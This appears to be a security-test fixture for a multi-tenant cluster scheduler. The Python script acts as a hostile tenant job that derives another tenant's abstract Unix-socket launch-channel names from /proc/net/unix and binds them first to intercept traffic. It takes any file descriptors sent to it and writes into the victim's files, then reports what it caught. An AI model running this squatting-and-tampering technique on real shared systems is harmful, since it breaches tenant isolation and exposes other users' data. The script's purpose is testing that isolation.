"""A hostile job: takes every launch-channel name it can derive for another tenant, on every
node, before that tenant's first job, and reports whatever reaches it.

The names come from ``/proc/net/unix``: its own tenant's
(``@aicluster-warm/<node>/<tenant>.<scope>``) give the other tenant's by swapping the tenant.
Each is bound and listened on (``HELD <name>`` in its log); a name already held is connected
to instead. The channel files the test names (``targets.json``) are tried as well. It holds
everything until the test drops ``release`` into its run directory, then prints
``REPORT {json}`` and exits 0.
"""

import contextlib
import json
import os
import socket
import sys
import threading
import time

victim = sys.argv[1]
paths = []
if os.path.exists("targets.json"):
    with open("targets.json") as listed:
        paths = json.load(listed)
release = os.path.join(os.environ["AICLUSTER_RUN_DIR"], "release")
report = {"held": [], "connected": [], "refused": {}, "received": [], "paths": {}}
lock = threading.Lock()


def derived_names():
    found = set()
    with open("/proc/net/unix") as table:
        for line in table.read().splitlines()[1:]:
            fields = line.split()
            if len(fields) < 8 or not fields[7].startswith("@aicluster-warm/"):
                continue
            parts = fields[7][1:].split("/")
            if len(parts) == 3 and "." in parts[2]:
                scope = parts[2].rsplit(".", 1)[1]
                found.add(f"{parts[0]}/{parts[1]}/{victim}.{scope}")
    return found


def serve(listener, name):
    while True:
        conn, _ = listener.accept()
        got, fds = b"", []
        conn.settimeout(5)
        with contextlib.suppress(OSError):
            data, fds, _, _ = socket.recv_fds(conn, 1 << 16, 16)
            got = data
        wrote = 0
        for fd in fds:  # what the attack did with them before: write into the victim's files
            with contextlib.suppress(OSError):
                wrote += os.write(fd, b"written by team-a\n")
        with lock:
            report["received"].append(
                {
                    "name": name,
                    "bytes": len(got),
                    "fds": len(fds),
                    "wrote": wrote,
                    "text": got.decode(errors="replace")[:2000],
                }
            )


def take(name):
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        listener.bind("\0" + name)
        listener.listen(16)
    except OSError as error:
        listener.close()
        probe = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            probe.connect("\0" + name)
            report["connected"].append(name)
        except OSError:
            report["refused"][name] = type(error).__name__
        finally:
            probe.close()
        return
    report["held"].append(name)
    print(f"HELD {name}", flush=True)
    threading.Thread(target=serve, args=(listener, name), daemon=True).start()


for path in paths:
    outcome = []
    for action in ("connect", "bind"):
        attempt = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            getattr(attempt, action)(path)
            outcome.append(f"{action} ALLOWED")
        except OSError as error:
            outcome.append(f"{action} denied {type(error).__name__}")
        finally:
            attempt.close()
    report["paths"][path] = outcome

tried = set()
deadline = time.monotonic() + 600
while not os.path.exists(release) and time.monotonic() < deadline:
    for name in sorted(derived_names() - tried):
        tried.add(name)
        take(name)
    time.sleep(0.3)
with lock:
    print("REPORT " + json.dumps(report), flush=True)
